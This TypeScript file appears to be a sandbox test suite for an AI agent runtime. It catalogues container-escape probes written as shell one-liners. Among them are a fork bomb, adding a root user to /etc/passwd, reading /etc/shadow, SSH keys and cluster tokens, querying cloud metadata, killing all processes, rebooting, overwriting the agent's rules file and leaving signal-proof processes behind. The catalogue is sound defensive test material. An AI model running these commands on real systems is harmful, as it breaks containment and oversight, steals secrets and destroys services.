/** What an attack goes for. */
export type Kind =
  | 'mounts'
  | 'devices'
  | '/proc and /sys'
  | 'sockets'
  | 'links in the workspace'
  | 'forks'
  | 'memory'
  | 'network'
  | 'privilege'
  | 'signals'
  | 'environment and keys'
  | 'what it leaves behind'

/**
 * One way out, as a script for any `sh`. It has won when it prints `ESCAPED` or the canary, or when something of this
 * machine was reached or changed. It finds in its variables: SECRET (a file with the canary), OUTSIDE (a folder), SOCKET
 * (a unix socket), PORT (of this machine, on each ADDRESS), VICTIM (the id of a process), GATEWAY (the id of ours),
 * NAP (how long a process sleeps by which it is known).
 */
export interface Attack {
  readonly kind: Kind
  readonly name: string
  readonly script: string
  /** It does no harm on this machine itself, where it must win: what it goes for is there. */
  readonly control?: true
}

const rows = (kind: Kind, all: readonly (readonly [name: string, script: string, control?: 'control'])[]): Attack[] =>
  all.map(([name, script, control]) => ({ kind, name, script, ...(control ? { control: true as const } : {}) }))

/** Wins when the command does. */
const does = (command: string) => `${command} >/dev/null 2>&1 && echo ESCAPED`
/** Wins when a file takes what is written. */
const writes = (file: string, text = '1') => `[ -e ${file} ] && (echo ${text} >${file}) 2>/dev/null && echo ESCAPED`
/** Wins when a file can be read. */
const reads = (file: string) => `[ -e ${file} ] && head -c 1 ${file} 2>/dev/null | grep -q . && echo ESCAPED`
/** Opens a connection with whatever is there. */
const dials = (address: string, port = '$PORT') =>
  `nc -w 1 ${address} ${port} </dev/null 2>/dev/null; timeout 2 bash -c "exec 3<>/dev/tcp/${address}/${port}" 2>/dev/null; wget -q -T 1 -O- "http://${address}:${port}/" 2>/dev/null; true`

/**
 * Known ways out of a container. Sources: https://github.com/stealthcopter/deepce, https://github.com/cdk-team/CDK/wiki,
 * https://book.hacktricks.wiki/en/linux-hardening/privilege-escalation/docker-security/, the man pages of bwrap(1) and
 * capabilities(7), and what was published of the incumbent.
 */
export const attacks: readonly Attack[] = [
  ...rows('mounts', [
    ['reads a file of this machine', 'cat "$SECRET"', 'control'],
    ['climbs out of the workspace', 'cat "../../../../../../../../$SECRET"', 'control'],
    ['goes through the root of the first process', 'cat "/proc/1/root$SECRET"'],
    ['goes through its own root', 'cat "/proc/self/root$SECRET"', 'control'],
    ['goes through the folder of the first process', 'cat "/proc/1/cwd/$SECRET"'],
    ['goes through open folders of others', 'for d in /proc/[0-9]*/fd/*; do cat "$d/$SECRET" 2>/dev/null; done'],
    ['looks for it by name', 'find / -xdev -name "$(basename "$SECRET")" -exec cat {} + 2>/dev/null'],
    ['writes beside the workspace', 'touch "$OUTSIDE/was-here"', 'control'],
    ['writes into the root', writes('/escape') + '; touch /escape 2>/dev/null && echo ESCAPED'],
    [
      'writes among the programs',
      'for d in /usr/bin /bin /usr/local/bin /usr/lib /lib; do touch $d/escape 2>/dev/null && echo ESCAPED; done',
    ],
    ['changes the list of users', '(echo evil::0:0::/:/bin/sh >>/etc/passwd) 2>/dev/null && echo ESCAPED'],
    ['mounts a tmpfs', does('mount -t tmpfs none /tmp')],
    ['binds the root elsewhere', 'mkdir -p /tmp/r; ' + does('mount --bind / /tmp/r')],
    ['makes the root writable again', does('mount -o remount,rw /')],
    ['makes the programs writable again', does('mount -o remount,rw,bind /usr')],
    ['mounts another /proc', 'mkdir -p /tmp/p; ' + does('mount -t proc proc /tmp/p')],
    ['mounts /sys', 'mkdir -p /tmp/s; ' + does('mount -t sysfs sys /tmp/s')],
    ['mounts the devices', 'mkdir -p /tmp/d; ' + does('mount -t devtmpfs dev /tmp/d')],
    [
      'mounts a control group',
      'mkdir -p /tmp/c; ' + does('mount -t cgroup -o memory c /tmp/c') + '; ' + does('mount -t cgroup2 c /tmp/c'),
    ],
    [
      'mounts the disk',
      'mkdir -p /tmp/m; for d in /dev/vda /dev/vda1 /dev/sda1 /dev/nvme0n1p1; do ' + does('mount $d /tmp/m') + '; done',
    ],
    ['takes a cover off', does('umount -l /proc') + '; ' + does('umount -l /workspace')],
    ['makes mounts of its own', does('unshare -m true')],
    ['makes mounts as root of its own users', does('unshare -Urm mount -t tmpfs none /tmp')],
    ['changes its root', does('chroot / true')],
    ['joins the mounts of the first process', 'nsenter -t 1 -m cat "$SECRET" 2>/dev/null'],
  ]),
  ...rows('devices', [
    [
      'makes the disk',
      'mknod /tmp/disk b 254 0 2>/dev/null && head -c 1 /tmp/disk 2>/dev/null | grep -q . && echo ESCAPED; ' +
        does('mknod /tmp/disk2 b 8 0'),
    ],
    ['makes the memory', does('mknod /tmp/mem c 1 1')],
    ['reads the disk', 'for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/dm-0; do ' + reads('$d') + '; done'],
    ['reads the memory', reads('/dev/mem') + '; ' + reads('/dev/kmem') + '; ' + reads('/proc/kcore')],
    ['opens a virtual machine', '(: <>/dev/kvm) 2>/dev/null && echo ESCAPED'],
    ['opens a file system of its own', '(: <>/dev/fuse) 2>/dev/null && echo ESCAPED'],
    ['opens a tunnel', '(: <>/dev/net/tun) 2>/dev/null && echo ESCAPED'],
    ['opens a loop device', '(: <>/dev/loop-control) 2>/dev/null && echo ESCAPED; ' + does('losetup -f /etc/hostname')],
    [
      'opens the console',
      '(: >/dev/console) 2>/dev/null && ls -l /dev/console | grep -q " 5, *1 " && echo ESCAPED; (: >/dev/tty0) 2>/dev/null && echo ESCAPED',
    ],
    ['writes to the kernel log', '(echo evil >/dev/kmsg) 2>/dev/null && echo ESCAPED'],
    ['opens the watchdog', '(: >/dev/watchdog) 2>/dev/null && echo ESCAPED'],
  ]),
  ...rows('/proc and /sys', [
    ['presses a magic key', writes('/proc/sysrq-trigger', 'h')],
    ['catches crashes', writes('/proc/sys/kernel/core_pattern', '"|/tmp/x"')],
    ['loads modules its own way', writes('/proc/sys/kernel/modprobe', '/tmp/x')],
    ['runs foreign formats its own way', writes('/proc/sys/fs/binfmt_misc/register', ':x:M::x::/tmp/x:')],
    ['lets the machine panic', writes('/proc/sys/vm/panic_on_oom')],
    ['changes how memory is given', writes('/proc/sys/vm/overcommit_memory')],
    ['allows itself user namespaces', writes('/proc/sys/user/max_user_namespaces', '9999')],
    [
      'saves itself from running out of memory',
      'was=$(cat /proc/self/oom_score_adj); (echo -1000 >/proc/self/oom_score_adj) 2>/dev/null && [ "$was" != -1000 ] && echo ESCAPED',
    ],
    ['renames itself to root', writes('/proc/self/uid_map', '"0 0 1"')],
    ['runs a helper for events', writes('/sys/kernel/uevent_helper', '/tmp/x')],
    ['puts the machine to sleep', '[ -w /sys/power/state ] && echo ESCAPED'],
    [
      'makes a control group',
      'for d in /sys/fs/cgroup /sys/fs/cgroup/memory /sys/fs/cgroup/pids; do mkdir $d/escape 2>/dev/null && echo ESCAPED; done',
    ],
    [
      'lifts its own limits',
      'for f in /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/pids/pids.max; do (echo 99999999999 >$f) 2>/dev/null && echo ESCAPED; done',
    ],
    [
      'leaves its control group',
      'for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/*/tasks; do (echo $$ >$f) 2>/dev/null && echo ESCAPED; done',
    ],
    [
      'is told when a control group is empty',
      'for f in /sys/fs/cgroup/release_agent /sys/fs/cgroup/*/release_agent; do (echo /tmp/x >$f) 2>/dev/null && echo ESCAPED; done',
    ],
    ['reads what others were started with', 'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n"', 'control'],
    ['reads the command lines of others', 'cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "', 'control'],
    ['reads the memory map of another', '[ "$(wc -l <"/proc/$VICTIM/maps")" -gt 0 ] && echo ESCAPED', 'control'],
    [
      'reads the log of the kernel',
      'dmesg 2>/dev/null | grep -q . && echo ESCAPED; timeout 1 head -c 1 /proc/kmsg 2>/dev/null | grep -q . && echo ESCAPED',
    ],
    [
      'reads the keys of the kernel',
      'grep -q . /proc/keys 2>/dev/null && grep -v "_ses\\|_uid\\|keyring" /proc/keys | grep -q . && echo ESCAPED',
    ],
  ]),
  ...rows('sockets', [
    ['finds a socket by its path', '[ -S "$SOCKET" ] && echo ESCAPED', 'control'],
    ['sees sockets without a path', 'cat /proc/net/unix', 'control'],
    [
      'finds the engine',
      'for s in /var/run/docker.sock /run/docker.sock /run/podman/podman.sock /run/containerd/containerd.sock /run/crio/crio.sock /run/user/*/podman/podman.sock; do [ -S $s ] && echo ESCAPED; done',
    ],
    [
      'finds the bus of the system',
      'for s in /run/dbus/system_bus_socket /run/systemd/private /run/user/*/bus; do [ -S $s ] && echo ESCAPED; done',
    ],
    ['finds the screen', 'for s in /tmp/.X11-unix/* /run/user/*/wayland-0; do [ -S $s ] && echo ESCAPED; done'],
    [
      'finds agents for keys',
      'for s in /tmp/ssh-*/agent.* /run/user/*/gnupg/S.gpg-agent /run/user/*/keyring/ssh; do [ -S $s ] && echo ESCAPED; done',
    ],
    ['finds any socket', 'find / -xdev -type s 2>/dev/null | grep -q . && echo ESCAPED'],
  ]),
  ...rows('links in the workspace', [
    ['follows a link', 'ln -sf "$SECRET" soft; cat soft', 'control'],
    [
      'follows a link to a folder',
      'ln -sfn "$(dirname "$SECRET")" folder; cat "folder/$(basename "$SECRET")"',
      'control',
    ],
    ['follows a link to the root', 'ln -sfn / root; cat "root$SECRET"', 'control'],
    ['links the file itself', 'ln "$SECRET" hard && cat hard'],
    ['writes through a link', 'ln -sfn "$OUTSIDE" out; echo x >out/was-here', 'control'],
    [
      'puts a link in place of the workspace',
      does('rmdir /workspace') + '; ' + does('mv /workspace /moved') + '; ' + does('ln -sfn / /workspace'),
    ],
    ['makes a name that climbs', 'mkdir -p "a/..x"; cat "a/../../../../../..$SECRET"'],
    ['makes a device of the workspace', does('mknod disk b 254 0')],
    [
      'makes a program that is root',
      'cp "$(command -v busybox || command -v id)" ./id 2>/dev/null; chmod u+s ./id; (./id id -u 2>/dev/null || ./id -u) 2>/dev/null | grep -qx 0 && echo ESCAPED',
    ],
  ]),
  ...rows('forks', [
    ['doubles itself', 'b() { b | b & }; b 2>/dev/null; sleep 2'],
    [
      'starts sleepers',
      'i=0; while [ $i -lt 3000 ]; do sleep 20 2>/dev/null & i=$((i + 1)); done 2>/dev/null; [ "$(ls -d /proc/[0-9]* | wc -l)" -gt 1000 ] && echo ESCAPED',
    ],
    [
      'leaves its session with each',
      'i=0; while [ $i -lt 1000 ]; do setsid sleep 20 2>/dev/null & i=$((i + 1)); done 2>/dev/null; [ "$(ls -d /proc/[0-9]* | wc -l)" -gt 900 ] && echo ESCAPED',
    ],
    [
      'lifts the limit',
      'ulimit -u unlimited 2>/dev/null; [ "$(ulimit -Hu 2>/dev/null)" = unlimited ] && i=0 && while [ $i -lt 3000 ]; do sleep 5 2>/dev/null & i=$((i + 1)); done 2>/dev/null; [ "$(ls -d /proc/[0-9]* | wc -l)" -gt 1000 ] && echo ESCAPED',
    ],
  ]),
  ...rows('memory', [
    ['takes it at once', does('dd if=/dev/zero of=/dev/null bs=700M count=1')],
    [
      'takes it bit by bit',
      `awk 'BEGIN { s = "x"; while (length(s) < 700000000) s = s s; print "ESCAPED" }' 2>/dev/null`,
    ],
    ['fills /tmp', does('dd if=/dev/zero of=/tmp/big bs=1M count=700') + '; rm -f /tmp/big'],
    ['fills /dev/shm', does('dd if=/dev/zero of=/dev/shm/big bs=1M count=700') + '; rm -f /dev/shm/big'],
    ['fills /dev', does('dd if=/dev/zero of=/dev/big bs=1M count=700') + '; rm -f /dev/big'],
    ['fills /run', does('dd if=/dev/zero of=/run/big bs=1M count=700') + '; rm -f /run/big'],
    ['lifts the limit', 'ulimit -v unlimited 2>/dev/null; ' + does('dd if=/dev/zero of=/dev/null bs=700M count=1')],
    [
      'keeps a line without end',
      '(timeout 10 tail -c 700m /dev/zero | head -c 1 | grep -q . ) 2>/dev/null; (head -c 700m /dev/zero | timeout 20 sort -S 700M >/dev/null) 2>/dev/null && [ "$(head -c 700m /dev/zero | timeout 20 tail -n 1 | wc -c)" -ge 734003200 ] && echo ESCAPED',
    ],
  ]),
  ...rows('network', [
    ['reaches this machine by its loopback', dials('127.0.0.1'), 'control'],
    ['reaches it by the other loopback', dials('::1')],
    ['reaches it by its address', `for a in $ADDRESS; do ${dials('$a')}; done`, 'control'],
    [
      'reaches the gateway of the engine',
      `for a in 10.88.0.1 172.17.0.1 10.0.2.2 169.254.1.2; do ${dials('$a')}; done`,
    ],
    [
      'reaches the metadata of a cloud',
      `timeout 3 bash -c 'exec 3<>/dev/tcp/169.254.169.254/80' 2>/dev/null && echo ESCAPED; wget -q -T 1 -O- http://169.254.169.254/ 2>/dev/null | grep -q . && echo ESCAPED`,
    ],
    ['has a network card', 'tail -n +3 /proc/net/dev | grep -v "^ *lo:" | grep -q . && echo ESCAPED', 'control'],
    ['has a way out', 'tail -n +2 /proc/net/route | grep -q . && echo ESCAPED'],
    ['makes a network card', does('ip link add d0 type dummy')],
    ['turns the loopback into another machine', does('ip addr add 10.9.9.9/8 dev lo')],
    [
      'listens in',
      does('timeout 1 tcpdump -c 1') +
        '; ping -c 1 -w 1 127.0.0.1 >/dev/null 2>&1 && [ "$(cat /proc/sys/net/ipv4/ping_group_range 2>/dev/null)" = "" ] && echo ESCAPED',
    ],
    [
      'joins the network of the first process',
      'nsenter -t 1 -n cat /proc/net/dev 2>/dev/null | grep -v "lo:\\|Inter\\|face" | grep -q . && echo ESCAPED',
    ],
  ]),
  ...rows('privilege', [
    ['is root', '[ "$(id -u)" = 0 ] && echo ESCAPED'],
    ['is in the group of root', 'id -G | tr " " "\\n" | grep -qx 0 && echo ESCAPED'],
    [
      'has capabilities',
      'grep -E "^Cap(Prm|Eff|Inh|Amb|Bnd)" /proc/self/status | grep -qv "0000000000000000" && echo ESCAPED',
    ],
    ['may gain privileges', 'grep -q "NoNewPrivs:.*0" /proc/self/status && echo ESCAPED'],
    ['becomes root in a namespace', does('unshare -Ur true') + '; ' + does('unshare -U true')],
    [
      'becomes root by a program',
      'for p in "su -c id" "sudo -n id" "pkexec id"; do $p </dev/null 2>/dev/null | grep -q "uid=0" && echo ESCAPED; done',
    ],
    ['takes the number of root', 'setpriv --reuid=0 id -u 2>/dev/null | grep -qx 0 && echo ESCAPED'],
    ['gives files away', 'touch mine; ' + does('chown 0 mine')],
    ['gives a program capabilities', 'cp "$(command -v cat)" ./c 2>/dev/null; ' + does('setcap cap_sys_admin+ep ./c')],
    ['goes before everybody', '[ "$(nice -n -5 nice 2>/dev/null)" = -5 ] && echo ESCAPED'],
    ['lifts a hard limit', 'was=$(ulimit -Hn); ulimit -Hn $((was + 1)) 2>/dev/null && echo ESCAPED'],
    ['names the machine', 'hostname escape 2>/dev/null && echo ESCAPED'],
    ['sets the clock', 'date -s 2001-01-01 >/dev/null 2>&1; [ "$(date +%Y)" = 2001 ] && echo ESCAPED'],
    ['loads a module', does('modprobe dummy') + '; ' + does('insmod /tmp/x.ko')],
    ['turns swap off', does('swapoff -a -v | grep -q .')],
    ['restarts the machine', does('reboot -f')],
    ['locks memory', 'ulimit -l unlimited 2>/dev/null && echo ESCAPED'],
  ]),
  ...rows('signals', [
    ['kills a process of this machine', 'kill -9 "$VICTIM"', 'control'],
    ['stops a process of this machine', 'kill -STOP "$VICTIM"', 'control'],
    ['kills the gateway', 'kill -9 "$GATEWAY"'],
    ['kills all that it can', 'kill -9 -1'],
    [
      'tries every number',
      'i=2; while [ $i -lt 40000 ]; do [ $i = $$ ] || kill -STOP $i; i=$((i + 1)); done 2>/dev/null',
    ],
    ['kills groups', 'kill -9 -"$VICTIM"; kill -9 -"$GATEWAY"'],
    [
      'sees processes of this machine',
      '[ -d "/proc/$VICTIM" ] && tr "\\0" " " <"/proc/$VICTIM/cmdline" | grep -q victim && echo ESCAPED',
      'control',
    ],
    ['ends the first process', 'kill -9 1; kill -TERM 1'],
  ]),
  ...rows('environment and keys', [
    ['reads its environment', 'env', 'control'],
    ['reads how it was started', 'tr "\\0" "\\n" </proc/self/environ', 'control'],
    ['reads the environment of the first process', 'tr "\\0" "\\n" </proc/1/environ'],
    ['reads the environment of what started it', 'tr "\\0" "\\n" <"/proc/$PPID/environ"'],
    ['reads the environment of the gateway', 'tr "\\0" "\\n" <"/proc/$GATEWAY/environ"', 'control'],
    [
      'finds open files',
      'for f in /proc/self/fd/*; do case "$(readlink "$f")" in pipe:*|socket:*|/dev/null|/proc/*|"") ;; *) echo ESCAPED;; esac; done',
    ],
    [
      'finds more than three open files',
      'for f in 3 4 5 6 7 8 9; do [ -e "/proc/$$/fd/$f" ] && case "$(readlink "/proc/$$/fd/$f")" in socket:*) echo ESCAPED;; esac; done',
    ],
    [
      'reads keys of people',
      'cat /root/.ssh/* /home/*/.ssh/* ~/.ssh/* /root/.aws/credentials /root/.docker/config.json 2>/dev/null | grep -q . && echo ESCAPED',
    ],
    [
      'reads passwords',
      'cat /etc/shadow /etc/gshadow 2>/dev/null | grep -v "^[^:]*:[*!]*:" | grep -q . && echo ESCAPED',
    ],
    [
      'reads keys of this machine',
      'cat /etc/ssh/ssh_host_* /etc/ssl/private/* 2>/dev/null | grep -q PRIVATE && echo ESCAPED',
    ],
    [
      'reads tokens of a cluster',
      'cat /var/run/secrets/kubernetes.io/serviceaccount/token /run/secrets/* 2>/dev/null | grep -q . && echo ESCAPED',
    ],
    [
      'finds a home of OpenClaw',
      'find / -xdev \\( -name local.token -o -name openclaw.json -o -name gateway.lock \\) 2>/dev/null | grep -q . && echo ESCAPED',
    ],
    [
      'finds a folder of other people',
      'ls -A /workspace/peers /agent/peers 2>/dev/null | grep -q "^neighbour" && echo ESCAPED',
    ],
    [
      'changes what it may only read',
      '(echo evil >/agent/AGENTS.md) 2>/dev/null && echo ESCAPED; mv /agent/AGENTS.md /agent/x 2>/dev/null && echo ESCAPED; ' +
        does('chmod 777 /agent/AGENTS.md') +
        '; ' +
        does('mount -o remount,rw /agent'),
    ],
  ]),
  ...rows('what it leaves behind', [
    ['leaves a child', 'sleep $NAP & true'],
    ['leaves a child in a session of its own', 'setsid sleep $NAP & true'],
    ['leaves a grandchild', '(setsid sh -c "sleep $NAP & sleep $NAP" &) & true'],
    [
      'leaves one that hears no signal',
      '(trap "" TERM HUP INT; setsid sh -c "trap \\"\\" TERM HUP INT; sleep $NAP; sleep $NAP" &) & true',
    ],
  ]),
]
